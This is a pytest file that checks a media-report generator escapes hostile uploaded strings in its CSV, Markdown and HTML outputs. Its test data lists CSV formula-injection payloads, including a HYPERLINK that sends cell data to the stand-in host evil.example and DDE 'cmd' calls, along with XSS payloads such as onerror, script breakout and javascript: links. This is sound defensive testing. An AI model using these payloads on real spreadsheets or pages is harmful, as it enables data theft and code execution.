"""Reports built from hostile input strings stay inert: in Excel/WPS (CSV), in wikis that render the Markdown
as HTML, and in the HTML report opened in a real browser.

Product names, clip titles, sentences and the recording's file name come from files an operator uploads; any of
them may hold a formula or markup. Wrong implementations these tests reject:
- CSV cells written as they come (``=HYPERLINK(…)`` then runs in a spreadsheet), or only ``=`` guarded (``+``,
  ``-``, ``@``, tab and CR also start formulas);
- numbers turned into text by a guard applied to every cell (a spreadsheet could no longer sum them);
- Markdown that escapes only table pipes (``<script>``, ``<img onerror>`` and ``[x](javascript:…)`` survive);
- an HTML report that drops a string into a ``<script>`` block or ``innerHTML`` unescaped.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from mediaops.report import ReportOptions, render_reports
from mediaops.report.csv_export import csv_cell
from tests.retro_data import write_output_folder

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "</script><script>window.__pwned='script'</script>",
    "[点这里](javascript:window.__pwned='link')",
    "<a href=\"javascript:window.__pwned='a'\">x</a>",
)


def _hostile_folder(tmp_path: Path) -> Path:
    """The report test stream with every product name, clip title, sentence and the file name made hostile."""
    out = write_output_folder(tmp_path / "out")
    doc = json.loads((out / "timeline.json").read_text("utf-8"))
    for i, pitch in enumerate(doc["pitches"]):
        pitch["name"] = HOSTILE[i % len(HOSTILE)]
    for i, clip in enumerate(doc["clips"]):
        clip["title"] = HOSTILE[(i + 4) % len(HOSTILE)]
        clip["reasons"] = [*clip["reasons"], HOSTILE[(i + 5) % len(HOSTILE)]]
        # the reports word the records: the host's sentence is where a hostile text reaches a reason
        clip["reason_records"] = [*clip["reason_records"], {"code": "sentence_end", "params": {
            "end_s": clip["end_s"], "sentence": HOSTILE[(i + 5) % len(HOSTILE)]}}]
    doc["recording"]["path"] = "/uploads/" + HOSTILE[5] + ".mp4"
    if doc.get("metrics"):
        doc["metrics"]["warnings"] = [HOSTILE[6], HOSTILE[0]]
    (out / "timeline.json").write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    transcript = json.loads((out / "transcript.json").read_text("utf-8"))
    for i, segment in enumerate(transcript["segments"][:20]):
        segment["text"] = HOSTILE[i % len(HOSTILE)]
    (out / "transcript.json").write_text(json.dumps(transcript, ensure_ascii=False), "utf-8")
    return out


def test_csv_cell_guards_every_formula_start_and_keeps_numbers() -> None:
    for text in HOSTILE[:5]:
        assert csv_cell(text) == "'" + text
    assert csv_cell("破壁料理机") == "破壁料理机"
    assert csv_cell(-12.5) == -12.5 and csv_cell(3) == 3  # numbers stay numbers
    assert csv_cell(None) == ""


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_csv_exports_hold_no_formula(tmp_path: Path, lang: str) -> None:
    out = _hostile_folder(tmp_path)
    render_reports(out, ReportOptions(lang=lang, formats=("csv",)))
    seen = []
    for name in ("report_clips.csv", "report_spikes.csv", "report_products.csv"):
        with (out / name).open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    seen.append(cell)
                    if cell and cell[0] in "=+@\t\r":
                        raise AssertionError(f"{name}: formula cell {cell!r}")
                    if cell.startswith("-"):
                        float(cell)  # a leading minus only on a number
    assert any(cell.startswith("'=HYPERLINK") for cell in seen)  # the hostile names did reach the CSVs


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_markdown_report_renders_no_markup(tmp_path: Path, lang: str) -> None:
    out = _hostile_folder(tmp_path)
    render_reports(out, ReportOptions(lang=lang, formats=("md",)))
    text = (out / "report.md").read_text("utf-8")
    assert "<script" not in text and "<img" not in text and "<a " not in text
    # rendered the way wikis do (CommonMark with raw HTML allowed): no element and no link came from the input
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert "<script" not in html and "<img" not in html and "javascript:" not in html.replace(
        "javascript:window", "")  # the text may be shown, never as a link target
    assert 'href="javascript' not in html
    assert "&lt;img src=x onerror" in html  # the name is still shown, as text


def test_html_report_runs_no_injected_script(tmp_path: Path) -> None:
    from tests.test_report_browser import CHROMIUM

    if not Path(CHROMIUM).is_file():
        pytest.fail("chromium missing: .ci/run installs Debian's chromium")
    from playwright.sync_api import sync_playwright

    out = _hostile_folder(tmp_path)
    render_reports(out, ReportOptions(lang="zh", formats=("html",)))
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1500})
            dialogs: list[str] = []
            requests: list[str] = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))  # listening before the load
            page.on("request", lambda r: requests.append(r.url))
            page.goto((out / "report.html").as_uri())
            page.wait_for_selector("body[data-ready='1']", timeout=30_000)
            page.mouse.move(700, 300)  # hover text of the chart is drawn from the (hostile) transcript
            for link in page.locator("a").all()[:30]:
                href = link.get_attribute("href") or ""
                assert not href.strip().lower().startswith("javascript"), href
            assert page.evaluate("() => window.__pwned === undefined")
            assert page.locator("img[src='x']").count() == 0
            assert dialogs == []
            assert all(url.startswith("file:") or url.startswith("data:") for url in requests), requests
            assert page.get_by_text("onerror", exact=False).count() >= 1  # shown as text
        finally:
            browser.close()
